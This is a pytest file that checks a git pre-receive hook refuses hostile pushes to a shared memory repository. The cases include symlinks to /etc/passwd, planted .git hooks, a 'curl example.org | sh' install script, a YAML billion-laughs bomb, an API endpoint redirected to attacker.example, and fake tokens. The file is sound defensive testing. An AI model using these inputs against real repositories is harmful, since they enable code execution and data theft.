"""Hostile pushes (issue 37): every kind a teammate with push access could try is refused by the real
pre-receive hook of a real bare remote, naming the file and the rule; a normal day of two teammates is
accepted. Each case builds its commits with plain git in a clone, pushes, and the clone is reset after.
"""

from __future__ import annotations

import dataclasses
import json
import os
import subprocess
from pathlib import Path
from typing import Callable

import pytest
from click.testing import CliRunner

from dream_fixtures import dream_branch
from memrepo import records as rec
from memrepo import tombstones as tomb
from memrepo.api import MemoryRepo
from memrepo.cli import cli
from memrepo.team import policy

PROJECT = Path(__file__).resolve().parents[1]
EXAMPLE = PROJECT / "examples" / "conversation.txt"


IDENTITY_ENV = ("GIT_AUTHOR_NAME", "GIT_AUTHOR_EMAIL", "GIT_COMMITTER_NAME", "GIT_COMMITTER_EMAIL")


def git(root: Path, *args: str, check: bool = True, input: str | None = None) -> str:
    """Plain git as each teammate runs it: authored by the clone's own user.name."""
    env = {k: v for k, v in os.environ.items() if k not in IDENTITY_ENV}
    done = subprocess.run(["git", "-c", "core.hooksPath=/dev/null", "-C", str(root), *args], capture_output=True,
                          text=True, input=input, env=env)
    if check and done.returncode:
        raise AssertionError(f"git {' '.join(args)}: {done.stderr}")
    return done.stdout.strip()


def memrepo(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(cli, list(args))
    return result.exit_code, result.stdout if "--json" in args else result.output


def identity(root: Path, name: str) -> None:
    git(root, "config", "user.name", name)
    git(root, "config", "user.email", f"{name.lower()}@example.org")


@pytest.fixture(scope="module")
def team(tmp_path_factory):
    """A bare remote with the hook; Ana's clone (a conversation ingested and pushed) and Ben's."""
    tmp = tmp_path_factory.mktemp("policy")
    old = os.environ.copy()
    os.environ.update(HOME=str(tmp), GIT_CONFIG_NOSYSTEM="1",
                      PYTHONPATH=os.pathsep.join(p for p in (str(PROJECT), old.get("PYTHONPATH", "")) if p))
    for key in IDENTITY_ENV:
        os.environ.pop(key, None)
    try:
        remote = tmp / "remote.git"
        subprocess.run(["git", "init", "-q", "--bare", str(remote)], check=True)
        assert memrepo("serve-hooks", "install", str(remote))[0] == 0
        a, b = tmp / "a", tmp / "b"
        assert memrepo("clone", str(remote), str(a))[0] == 0
        identity(a, "Ana")
        code, out = memrepo("--repo", str(a), "ingest", str(EXAMPLE))
        assert code == 0, out
        code, out = memrepo("--repo", str(a), "sync")
        assert code == 0, out
        assert memrepo("clone", str(remote), str(b))[0] == 0
        identity(b, "Ben")
        yield remote, a, b
    finally:
        os.environ.clear()
        os.environ.update(old)


def push(root: Path, *refs: str) -> subprocess.CompletedProcess:
    return subprocess.run(["git", "-C", str(root), "push", "origin", *(refs or ("main",))], capture_output=True,
                          text=True)


def refused(remote: Path, root: Path, path: str, rule: str, *refs: str) -> str:
    """Push ``refs`` from ``root``; assert the hook refused it naming ``path`` and ``rule``; reset the clone."""
    before = git(remote, "rev-parse", "main")
    try:
        done = push(root, *refs)
        lines = [line for line in done.stderr.splitlines() if "memrepo: refused:" in line]
        assert done.returncode != 0, f"accepted: {done.stderr}"
        assert any(path in line and f"rule {rule}" in line for line in lines), done.stderr
        assert git(remote, "rev-parse", "main") == before
        return done.stderr
    finally:
        git(root, "reset", "-q", "--hard", "origin/main")
        git(root, "clean", "-qfdx", "-e", ".git")


def commit(root: Path, files: dict[str, str | bytes | None], message: str = "edit") -> str:
    for name, data in files.items():
        target = root / name
        if data is None:
            git(root, "rm", "-q", "--", name)
            continue
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data if isinstance(data, bytes) else data.encode())
        git(root, "add", "--", name)
    git(root, "commit", "-q", "--no-verify", "-m", message)
    return git(root, "rev-parse", "HEAD")


def commit_tree_with(root: Path, entries: list[str], message: str = "crafted") -> None:
    """Commit HEAD's top-level tree plus raw ``git mktree`` lines (entries Git would not add by itself)."""
    listing = git(root, "ls-tree", "HEAD") + "\n" + "\n".join(entries) + "\n"
    tree = git(root, "mktree", input=listing)
    new = git(root, "commit-tree", tree, "-p", "HEAD", "-m", message)
    git(root, "update-ref", "refs/heads/main", new)


def blob(root: Path, data: str) -> str:
    return git(root, "hash-object", "-w", "--stdin", input=data)


def a_record(root: Path, folder: str = "episodic") -> tuple[str, str]:
    path = sorted(str(p.relative_to(root)) for p in (root / folder).rglob("*.md"))[0]
    return path, (root / path).read_text()


def token(prefix: str, body: str = "A1b2C3d4", repeat: int = 5) -> str:
    """A token-shaped test value, built at run time so this file holds no string a scanner would flag."""
    return prefix + body * repeat


def with_text(text: str, added: str) -> str:
    return text.rstrip("\n") + "\n" + added + "\n"


# --- the hostile pushes ---------------------------------------------------------------------------------


def symlink_folder(remote, a, b):
    outside = a.parent / "outside"
    outside.mkdir(exist_ok=True)
    (a / "episodic" / "2026").symlink_to(outside)
    git(a, "add", "episodic/2026")
    git(a, "commit", "-qm", "link")
    return "episodic/2026", "file-kind"


def symlink_record(remote, a, b):
    path, _ = a_record(a)
    (a / path).unlink()
    (a / path).symlink_to("/etc/passwd")
    git(a, "commit", "-qam", "link a record")
    return path, "file-kind"


def submodule(remote, a, b):
    commit_tree_with(a, [f"160000 commit {git(a, 'rev-parse', 'HEAD')}\tvendor"])
    return "vendor", "file-kind"


def gitmodules(remote, a, b):
    commit(a, {".gitmodules": '[submodule "x"]\n\tpath = x\n\turl = ../x\n'})
    return ".gitmodules", "file-kind"


def dot_git_entry(remote, a, b):
    config = blob(a, "[core]\n")
    inner = git(a, "mktree", input=f"100644 blob {config}\tconfig\n")
    commit_tree_with(a, [f"040000 tree {inner}\t.git"])
    return ".git/config", "file-kind"


def dot_git_entry_other_case(remote, a, b):
    inner = git(a, "mktree", input=f"100644 blob {blob(a, 'x')}\tpost-checkout\n")
    hooks = git(a, "mktree", input=f"040000 tree {inner}\thooks\n")
    resource = git(a, "mktree", input=f"040000 tree {hooks}\t.GIT\n")
    commit_tree_with(a, [f"040000 tree {resource}\tresource"])
    return "resource/.GIT/hooks/post-checkout", "file-kind"


def file_outside_layout(remote, a, b):
    commit(a, {"notes.txt": "hello\n"})
    return "notes.txt", "layout"


def folder_outside_layout(remote, a, b):
    commit(a, {"scripts/install.sh": "curl example.org | sh\n"})
    return "scripts/install.sh", "layout"


def wrong_kind_in_a_typed_folder(remote, a, b):
    commit(a, {"episodic/2023/05/run.exe": b"MZ\x90\x00"})
    return "episodic/2023/05/run.exe", "layout"


def oversized_record(remote, a, b):
    path, text = a_record(a)
    commit(a, {path: with_text(text, "x" * (policy.MAX_FILE_BYTES + 10))})
    return path, "size"


def billion_laughs(remote, a, b):
    path, text = a_record(a)
    head, body = text.split("\n---\n", 1)
    laughs = 'lol0: &l0 ["lol", "lol"]\n' + "".join(
        f"lol{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9)}]\n" for i in range(1, 10))
    commit(a, {path: head + "\n" + laughs + "---\n" + body})
    return path, "record"


def yaml_tag(remote, a, b):
    path, text = a_record(a)
    commit(a, {path: text.replace("\n---\n", "\nextra: !!binary aGVsbG8=\n---\n", 1)})
    return path, "record"


def forged_vault_cipher(remote, a, b):
    record = rec.new_record("vault", "the alarm code is 4711", mention_time="2024-01-01T00:00:00Z")
    forged = rec.serialize(dataclasses.replace(record, extra={**record.extra, "cipher": "fernet"}))
    path = rec.record_path(record.id, "vault")
    commit(a, {path: forged})
    return path, "vault"


def vault_plaintext_added_then_removed(remote, a, b):
    record = rec.new_record("vault", "the alarm code is 4711", mention_time="2024-01-01T00:00:00Z")
    path = rec.record_path(record.id, "vault")
    commit(a, {path: rec.serialize(record)}, "add")
    commit(a, {path: None}, "remove again")
    return path, "vault"


def settings_endpoint(remote, a, b):
    text = (a / "memrepo.toml").read_text().replace('base_url = ""', 'base_url = "http://attacker.example/v1"', 1)
    commit(a, {"memrepo.toml": text})
    return "memrepo.toml", "settings"


def settings_key(remote, a, b):
    text = (a / "memrepo.toml").read_text() + '\n[embedding.extra]\napi_key = "' + token("sk-") + '"\n'
    commit(a, {"memrepo.toml": text})
    return "memrepo.toml", "settings"


def secret_added_then_removed(remote, a, b):
    path, text = a_record(a, "semantic")
    first = commit(a, {path: with_text(text, "Deploy token " + token("ghp_", "A1b2", 9))}, "oops")
    commit(a, {path: text}, "remove it again")
    return path, "secret"


def github_token_in_a_record(remote, a, b):
    path, text = a_record(a)
    commit(a, {path: with_text(text, "token: " + token("ghp_", "Z9y8", 9))})
    return path, "secret"


def aws_key_and_password(remote, a, b):
    path, text = a_record(a, "semantic")
    commit(a, {path: with_text(text, "AKIA" + "IOSFODNN7EXAMPLE and password: hunter2")})
    return path, "secret"


def token_in_a_source(remote, a, b):
    path, text = a_record(a, "sources")
    commit(a, {path: text.replace("\n", " " + token("xoxb-", "1234567890-", 2) + "\n", 1)})
    return path, "secret"


def delete_a_cited_source(remote, a, b):
    path, _ = a_record(a, "sources")
    commit(a, {path: None})
    return path, "source-deleted"


def graph_file_of_a_missing_record(remote, a, b):
    from memrepo.graph.model import graph_path

    src = sorted((a / "graph" / "frames").rglob("*.ttl"))[0]
    missing = "ep-2023-05-02-0badc0de"
    commit(a, {graph_path(missing): src.read_text()})
    return graph_path(missing), "graph"


def gitattributes_without_driver(remote, a, b):
    commit(a, {".gitattributes": "# nothing\n"})
    return ".gitattributes", "attributes"


def gitattributes_foreign_line(remote, a, b):
    commit(a, {".gitattributes": (a / ".gitattributes").read_text() + "core/** merge=ours\n"})
    return ".gitattributes", "attributes"


def conflict_markers(remote, a, b):
    path, text = a_record(a, "semantic")
    commit(a, {path: with_text(text, "<<<<<<< HEAD\nmine\n=======\ntheirs\n>>>>>>> b")})
    return path, "conflict-marker"


def merge_that_drops_a_record(remote, a, b):
    git(a, "switch", "-q", "-c", "side")
    with MemoryRepo.open(a) as repo:
        record = repo.new_record("semantic", "Ana keeps a kayak in the garden shed", mention_time="2024-05-01T00:00:00Z")
        repo.add([record])
    git(a, "switch", "-q", "main")
    commit(a, {"rules/team.md": "Be kind.\n"})
    git(a, "merge", "-q", "-s", "ours", "--no-edit", "side")
    git(a, "branch", "-q", "-D", "side")
    return rec.record_path(record.id), "merge-drop"


def rewrite_main(remote, a, b):
    git(a, "commit", "-q", "--amend", "-m", "rewritten")
    done = subprocess.run(["git", "-C", str(a), "push", "--force", "origin", "main"], capture_output=True, text=True)
    assert done.returncode != 0 and "rule history" in done.stderr, done.stderr
    return None


CASES: dict[str, Callable] = {f.__name__: f for f in (
    symlink_folder, symlink_record, submodule, gitmodules, dot_git_entry, dot_git_entry_other_case,
    file_outside_layout, folder_outside_layout, wrong_kind_in_a_typed_folder, oversized_record, billion_laughs,
    yaml_tag, forged_vault_cipher, vault_plaintext_added_then_removed, settings_endpoint, settings_key,
    secret_added_then_removed, github_token_in_a_record, aws_key_and_password, token_in_a_source,
    delete_a_cited_source, graph_file_of_a_missing_record, gitattributes_without_driver, gitattributes_foreign_line,
    conflict_markers, merge_that_drops_a_record, rewrite_main)}


@pytest.mark.parametrize("kind", list(CASES))
def test_a_hostile_push_is_refused_naming_the_file_and_the_rule(team, kind):
    remote, a, b = team
    try:
        expected = CASES[kind](remote, a, b)
    except BaseException:
        git(a, "reset", "-q", "--hard", "origin/main")
        raise
    if expected is None:
        git(a, "reset", "-q", "--hard", "origin/main")
        return
    path, rule = expected
    stderr = refused(remote, a, path, rule)
    assert "Traceback" not in stderr
    if rule == "secret":
        assert "hunter2" not in stderr and "A1b2A1b2" not in stderr and "Z9y8Z9y8" not in stderr


def test_validate_in_a_clone_names_the_commit_of_a_secret_removed_again(team):
    remote, a, b = team
    path, text = a_record(a, "semantic")
    first = commit(a, {path: with_text(text, "Deploy token " + token("ghp_", "Q7w8", 9))}, "oops")
    commit(a, {path: text}, "remove it again")
    try:
        code, out = memrepo("--repo", str(a), "validate", "origin/main..HEAD", "--json")
        report = json.loads(out)
        assert code == 1 and report["commits"] == 2
        assert [(p["path"], p["rule"], p["commit"]) for p in report["problems"]] == [(path, "secret", first)]
        assert "Q7w8" not in out
    finally:
        git(a, "reset", "-q", "--hard", "origin/main")


def test_a_push_over_the_servers_push_limit_is_refused(team):
    remote, a, b = team
    git(remote, "config", "memrepo.maxPushBytes", "20000")
    try:
        with MemoryRepo.open(a) as repo:
            repo.add([repo.new_record("semantic", f"Fact {i}: " + "the shed holds a kayak. " * 40,
                                      mention_time="2024-02-01T00:00:00Z") for i in range(30)])
        refused(remote, a, "(push)", "size")
    finally:
        git(remote, "config", "--unset", "memrepo.maxPushBytes")


def test_a_decision_file_is_never_edited_or_deleted_and_a_tombstone_never_deleted(team):
    remote, a, b = team
    stone = tomb.Tombstone(id="se-2023-05-03-00c0ffee", forgotten_by="Ana <ana@example.org>",
                           forgotten_at="2026-12-01T10:00:00+00:00", reason="asked to")
    commit(a, {stone.path: tomb.serialize_tombstone(stone)}, "a tombstone")
    assert push(a).returncode == 0  # a tombstone of its own is a good push
    git(a, "fetch", "-q")
    commit(a, {stone.path: None}, "drop the tombstone")
    refused(remote, a, stone.path, "tombstone")
    edited = dataclasses.replace(stone, forgotten_by="Mallory <m@example.org>")
    commit(a, {stone.path: tomb.serialize_tombstone(edited)}, "blame someone else")
    refused(remote, a, stone.path, "tombstone")
    # re-adding the forgotten id is refused; an undo recorded first lets it back
    record = dataclasses.replace(rec.new_record("semantic", "Ana lives at 1 Elm Street",
                                                mention_time="2023-05-03T00:00:00Z"), id=stone.id)
    commit(a, {rec.record_path(stone.id): rec.serialize(record)}, "bring it back")
    refused(remote, a, rec.record_path(stone.id), "tombstone")
    undone = dataclasses.replace(stone, undone_by="Ana <ana@example.org>", undone_at="2026-12-02T10:00:00+00:00")
    commit(a, {stone.path: tomb.serialize_tombstone(undone), rec.record_path(stone.id): rec.serialize(record)},
           "undo the forget, then add it again")
    done = push(a)
    assert done.returncode == 0, done.stderr
    # forgetting it again makes the undone tombstone active again: accepted
    code, out = memrepo("--repo", str(a), "forget", stone.id, "--reason", "asked again")
    assert code == 0, out
    done = push(a)
    assert done.returncode == 0, done.stderr
    git(a, "fetch", "-q")


# --- Dream reviews ------------------------------------------------------------------------------------


def test_a_dream_reaches_main_only_by_a_teammates_review_and_a_rejection_binds_every_path(team):
    remote, a, b = team
    branch = dream_branch(a)
    assert memrepo("--repo", str(a), "sync")[0] == 0  # main and the review branch published
    decision = git(a, "diff", "--name-only", "main", branch).splitlines()[0]

    # Ana merges her own dream branch with plain git: refused, naming the rule
    git(a, "merge", "-q", "--no-ff", "--no-edit", branch)
    refused(remote, a, decision, "review")
    # a fast-forward or a cherry-pick onto main: a Dream run added directly to main
    git(a, "cherry-pick", branch)
    refused(remote, a, decision, "review")

    # Ben rejects it; Ana then merges the rejected branch by plain git: refused, naming reviewer and branch
    assert memrepo("--repo", str(b), "sync")[0] == 0
    code, out = memrepo("--repo", str(b), "review", "reject", branch, "--reason", "two places")
    assert code == 0, out
    assert memrepo("--repo", str(b), "sync")[0] == 0
    assert memrepo("--repo", str(a), "sync")[0] == 0
    git(b, "fetch", "-q")
    git(b, "merge", "-q", "--no-ff", "--no-edit", f"origin/{branch}")
    stderr = refused(remote, b, decision, "rejected")
    assert "Ben <ben@example.org>" in stderr and branch in stderr and "-rejected" in stderr
    # `memrepo validate` in the clone says the same
    git(b, "merge", "-q", "--no-ff", "--no-edit", f"origin/{branch}")
    code, out = memrepo("--repo", str(b), "validate", "origin/main..HEAD")
    assert code == 1 and "rule rejected" in out
    git(b, "reset", "-q", "--hard", "origin/main")
    # deleting the rejection to get around it is refused too
    rejection = next(p for p in git(b, "ls-tree", "-r", "--name-only", "HEAD", "graph/decisions").splitlines()
                     if p.endswith("-rejected.ttl"))
    commit(b, {rejection: None}, "forget the rejection")
    refused(remote, b, rejection, "decision")

    # a later decision reverses it: Ben approves with --force, and the push is accepted
    code, out = memrepo("--repo", str(b), "review", "approve", f"origin/{branch}", "--force")
    assert code == 0, out
    code, out = memrepo("--repo", str(b), "sync")
    assert code == 0, out
    assert memrepo("--repo", str(a), "sync")[0] == 0
    assert git(a, "rev-parse", "HEAD^{tree}") == git(remote, "rev-parse", "main^{tree}")


def test_a_teammates_approval_of_a_dream_is_accepted(team):
    remote, a, b = team
    from dream_fixtures import add_stated

    with MemoryRepo.open(a) as repo:
        add_stated(repo, "Ana flew past Mount Everest.", "2023-06-02T10:00:00",
                   [("Ana", "person"), ("Mount Everest", "location")])
        add_stated(repo, "Ana dreams of the summit of Everest.", "2023-06-03T10:00:00",
                   [("Ana", "person"), ("Everest", "location")])
    code, out = memrepo("--repo", str(a), "dream", "--json")
    assert code == 0, out
    branch = json.loads(out)["branch"]
    assert memrepo("--repo", str(a), "sync")[0] == 0
    assert memrepo("--repo", str(b), "sync")[0] == 0
    code, out = memrepo("--repo", str(b), "review", "approve", f"origin/{branch}")
    assert code == 0, out
    code, out = memrepo("--repo", str(b), "sync")
    assert code == 0, out  # Ben's review merge of Ana's run: accepted
    # Ana syncs: her sync merge brings the approved run back to her main, and her next push is accepted
    with MemoryRepo.open(a) as repo:
        repo.add([repo.new_record("semantic", "Ana waters the orchids on Fridays", mention_time="2024-03-01T00:00:00Z")])
    code, out = memrepo("--repo", str(a), "sync")
    assert code == 0, out


def test_a_normal_day_of_two_teammates_is_accepted(team):
    remote, a, b = team
    for root, text in ((a, "Ana moved the team offsite to Porto"), (b, "Ben booked the train for Thursday")):
        code, out = memrepo("--repo", str(root), "remember", text)
        assert code == 0, out
    code, out = memrepo("--repo", str(b), "remember", "Prefers tea to coffee", "--type", "core", "--label", "human")
    assert code == 0, out
    for root in (a, b, a):
        code, out = memrepo("--repo", str(root), "sync")
        assert code == 0, out
    code, out = memrepo("--repo", str(a), "validate", "--json")
    assert code == 0 and json.loads(out)["ok"], out
    assert git(a, "rev-parse", "HEAD^{tree}") == git(b, "rev-parse", "HEAD^{tree}")


def test_every_rule_is_documented_with_its_message():
    text = (PROJECT / "docs" / "team.md").read_text()
    for rule in policy.RULES:
        assert f"| `{rule}` |" in text, rule
